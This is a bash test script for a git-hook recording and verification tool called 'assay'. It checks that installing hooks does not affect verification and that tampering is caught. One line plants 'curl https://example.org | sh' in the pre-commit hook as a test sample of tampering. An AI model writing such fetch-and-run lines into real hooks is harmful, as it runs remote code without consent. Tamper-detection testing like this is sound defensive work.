#!/usr/bin/env bash
# A hook that assay installed is of one machine: what was recorded without it verifies with it, and the other way round.
set -euo pipefail
. "$(dirname "$0")/lib.sh"

git init -q project
cd project
echo words >notes.txt
git add notes.txt
git commit -qm notes
run 0 key new default
run 0 record
run 0 verify
for how in "" "pre-push pre-receive --if-missing warn"; do
    # shellcheck disable=SC2086 # several words
    run 0 hook install $how
    run 0 verify
done
run 0 list
silent_on hooks/pre-
echo 'curl https://example.org | sh' >>.git/hooks/pre-commit
run 5 verify
says "new" ".git/hooks/pre-commit"

# The other way round: recorded with the hooks, and read where there are none.
run 0 hook uninstall
run 0 hook install
run 0 record
run 0 hook uninstall
run 0 verify
